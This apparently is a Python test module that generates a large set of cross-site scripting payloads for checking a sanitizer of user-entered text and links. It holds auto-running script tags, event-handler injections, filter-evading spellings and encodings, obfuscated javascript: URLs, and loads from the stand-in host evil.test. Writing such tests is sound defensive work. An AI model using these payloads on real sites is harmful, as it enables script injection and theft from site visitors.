"""What an attacker types where a comment, a name or an address is asked for.

Every payload tries to call `xss()` or `alert()`, or to make the browser ask `evil.test` (a name that nobody can own,
RFC 6761) for something. Those here are made: ways to run a script, each in several spellings and behind several ways
out of the place where it stands; those in `xss_picked` are added.
"""

from collections.abc import Iterator

from tests.quality.xss_picked import CALL, EVIL, MARKDOWN, PICKED

# Elements that run a script without anybody's help, wherever they come to stand.
_RUNNING = (
    f"<script>{CALL}</script>",
    f"<script src={EVIL}/a.js></script>",
    f"<script src=data:text/javascript,{CALL}></script>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><script href=data:,{CALL} /></svg>",
    f"<img src=x onerror={CALL}>",
    f"<img src=x: onerror={CALL} onload={CALL}>",
    f"<image src=x onerror={CALL}>",
    f"<picture><source srcset=x><img onerror={CALL}></picture>",
    f"<svg onload={CALL}>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<svg><set onbegin={CALL} attributeName=x to=y>",
    f"<svg><image href=x onerror={CALL}></svg>",
    f"<body onload={CALL}>",
    f"<body onpageshow={CALL}>",
    f"<input autofocus onfocus={CALL}>",
    f"<select autofocus onfocus={CALL}>",
    f"<textarea autofocus onfocus={CALL}>",
    f"<button autofocus onfocus={CALL}>x</button>",
    f"<a href=x autofocus tabindex=1 onfocus={CALL}>x</a>",
    f"<x tabindex=1 autofocus onfocus={CALL}>",
    f"<details open ontoggle={CALL}>x</details>",
    f"<video src=x onerror={CALL}></video>",
    f"<video><source onerror={CALL}></video>",
    f"<audio src=x onerror={CALL}></audio>",
    f"<marquee onstart={CALL}>x</marquee>",
    f"<iframe onload={CALL}></iframe>",
    f"<iframe src=javascript:parent.{CALL}></iframe>",
    f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>",
    f"<object data=javascript:parent.{CALL}></object>",
    f"<object data=x onerror={CALL}></object>",
    f"<embed src=javascript:parent.{CALL}>",
    f"<link rel=stylesheet href=x onerror={CALL}>",
    f"<style onload={CALL}></style>",
    f"<style>@keyframes x{{}}</style><p style=animation-name:x onanimationstart={CALL}>x</p>",
    f"<p oncontentvisibilityautostatechange={CALL} style=display:block;content-visibility:auto>x</p>",
    f"<math><mtext><img src=x onerror={CALL}></mtext></math>",
)
# Elements that only ask somebody else, or take the reader there.
_ASKING = (
    f"<img src={EVIL}/a.png>",
    f"<img srcset='{EVIL}/a.png 1x, {EVIL}/b.png 2x'>",
    "<img src=//evil.test/a.png>",
    f"<input type=image src={EVIL}/a.png>",
    f"<video poster={EVIL}/a.png></video>",
    f"<audio src={EVIL}/a.ogg autoplay></audio>",
    f"<track src={EVIL}/a.vtt>",
    f"<iframe src={EVIL}></iframe>",
    f"<object data={EVIL}></object>",
    f"<embed src={EVIL}>",
    f"<link rel=stylesheet href={EVIL}/a.css>",
    f"<link rel=preload as=image href={EVIL}/a.png>",
    f"<link rel=icon href={EVIL}/a.ico>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{CALL}'>",
    f"<base href={EVIL}/>",
    f"<style>@import '{EVIL}/a.css';</style>",
    f"<style>p{{background:url({EVIL}/a.png)}}</style>",
    f"<p style=background:url({EVIL}/a.png)>x</p>",
    f"<p style='list-style:url({EVIL}/a.png)'>x</p>",
    f"<table background={EVIL}/a.png><td>x</table>",
    f"<svg><use href={EVIL}/a.svg#x /></svg>",
    f"<svg><image href={EVIL}/a.png /></svg>",
    f"<svg><filter><feImage href={EVIL}/a.png /></filter></svg>",
    f"<form action={EVIL}><button autofocus>x</button></form>",
    f"<a ping={EVIL} href=/>x</a>",
)
# Elements that wait for a reader's hand.
_WAITING = (
    f"<a href=javascript:{CALL}>x</a>",
    f"<a href='javascript:{CALL}' target=_blank>x</a>",
    f"<svg><a xlink:href=javascript:{CALL}><text y=9>x</text></a></svg>",
    f"<math href=javascript:{CALL}>x</math>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{CALL}>x</maction></math>",
    f"<form action=javascript:{CALL}><input type=submit></form>",
    f"<form id=f></form><button form=f formaction=javascript:{CALL}>x</button>",
    f"<isindex type=submit formaction=javascript:{CALL}>",
    f"<p onclick={CALL}>x</p>",
    f"<p onmouseover={CALL}>x</p>",
    f"<p onpointerrawupdate={CALL}>x</p>",
    f"<area href=javascript:{CALL}>",
    f"<portal src=javascript:{CALL}>",
    f"<input oncut={CALL} onpaste={CALL} value=x>",
    f"<div popover id=p onbeforetoggle={CALL}>x</div><button popovertarget=p>x</button>",
)
_ELEMENTS = _RUNNING + _ASKING + _WAITING
# Ways out of where a text may have been put: attributes, elements whose content is text, comments, other languages.
_WAYS_OUT = (
    *('">', "'>", "`>", ">", "-->", "--!>", "*/", "]]>", "?>", "%>", '"/>', '\\">', "&quot;>", "\\'>"),
    *("</script>", "</style>", "</title>", "</textarea>", "</noscript>", "</template>", "</xmp>", "</iframe>"),
    *("</svg>", "</math>", "</select>", "</a>", "</code></pre>", "</blockquote>", "</li></ul>", "</p>", "</article>"),
)
_FEW = tuple(_ELEMENTS[number] for number in (0, 5, 9, 37, 50))


def _spellings(element: str) -> Iterator[str]:
    """The same for a browser, and another thing for who compares characters."""
    yield element.replace("script", "ScRiPt").replace("img", "ImG").replace("svg", "SvG").replace("on", "oN")
    yield element.replace(" ", "/")
    yield element.replace(" ", "\n")
    yield element.replace(" ", "\f")
    yield element.replace("=", " = ")
    yield f"<{element}"
    yield element.replace("<", "<\x00")
    yield element.replace(">", " ", 1)
    yield element.removesuffix(">")
    yield element.replace(CALL, "&#x78;&#115;s&lpar;&rpar;")
    yield element.replace(CALL, "\\u0078ss()")
    yield element.replace(CALL, "xss``")
    yield element.replace("<", "&lt;").replace(">", "&gt;")
    yield element.replace("<", "&#60;").replace(">", "&#x3e;")
    yield element.replace("<", "&LT").replace(">", "&GT")
    yield element.replace("<", "&amp;lt;")
    yield element.replace("<", "%3C").replace(">", "%3E")
    yield element.replace("<", "\\x3c").replace(">", "\\u003e")
    yield element.replace("<", "＜").replace(">", "＞")
    yield element.replace("<", "‹").replace(">", "›")
    yield element.replace("<", "\\<")
    yield element.replace("<", "\u200b<\u200b")
    yield element.replace("<", "\u202e<")
    yield element.replace("<", "+ADw-").replace(">", "+AD4-")


# Addresses that are none of the web's, as browsers would still understand them, or as a filter would not.
_ADDRESSES = (
    f"javascript:{CALL}",
    f"JaVaScRiPt:{CALL}",
    f"javascript://%0a{CALL}",
    f"javascript://evil.test/%0d%0a{CALL}",
    f" javascript:{CALL}",
    f"\tjavascript:{CALL}",
    f"\x01javascript:{CALL}",
    f"\u00a0javascript:{CALL}",
    f"\u200bjavascript:{CALL}",
    f"\ufeffjavascript:{CALL}",
    f"java\tscript:{CALL}",
    f"java\x00script:{CALL}",
    f"javascript\t:{CALL}",
    f"java&Tab;script:{CALL}",
    f"java&NewLine;script:{CALL}",
    f"javascript&colon;{CALL}",
    f"&#106;avascript:{CALL}",
    f"&#0000106avascript:{CALL}",
    f"&#x6A;avascript:{CALL}",
    f"%6Aavascript:{CALL}",
    f"\\javascript:{CALL}",
    f"java\\script:{CALL}",
    f"javascript\\:{CALL}",
    f"ｊavascript:{CALL}",
    f"vbscript:{CALL}",
    f"livescript:{CALL}",
    f"feed:javascript:{CALL}",
    f"view-source:javascript:{CALL}",
    f"https:javascript:{CALL}",
    f"http://javascript:{CALL}",
    f"data:text/html,<script>{CALL}</script>",
    "data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{CALL}'/>",
    "DATA:text/html;charset=utf-7,+ADw-script+AD4-xss()+ADw-/script+AD4-",
    "blob:https://evil.test/a",
    "file:///etc/passwd",
    "filesystem:https://evil.test/a",
    "//evil.test/a",
    "/\\evil.test/a",
    "\\\\evil.test\\a",
    f'https://evil.test/"onmouseover="{CALL}',
    f"https://evil.test/'onmouseover='{CALL}",
    f"https://evil.test/`onmouseover=`{CALL}",
    f"https://evil.test/?a=<script>{CALL}</script>",
    f"https://evil.test/)<img src=x onerror={CALL}>",
    f"https://evil.test/#]({CALL})",
    f"mailto:a@b?subject=<svg onload={CALL}>",
)
_PLACES = ("{}", "[x]({})", "![x]({})", "<{}>", "[x](<{}>)", '[x]({} "t")', "[x]: {}\n\n[x]")


def _made() -> Iterator[str]:
    yield from _ELEMENTS
    for element in _FEW:
        yield from _spellings(element)
    for number, way in enumerate(_WAYS_OUT):
        yield way + _RUNNING[number % len(_RUNNING)]
        yield way + _ASKING[number % len(_ASKING)]
    for number, address in enumerate(_ADDRESSES):
        yield address
        yield from (place.format(address) for place in (_PLACES[1], _PLACES[2 + number % (len(_PLACES) - 2)]))
    yield from MARKDOWN
    yield from PICKED


PAYLOADS: tuple[str, ...] = tuple(dict.fromkeys(_made()))
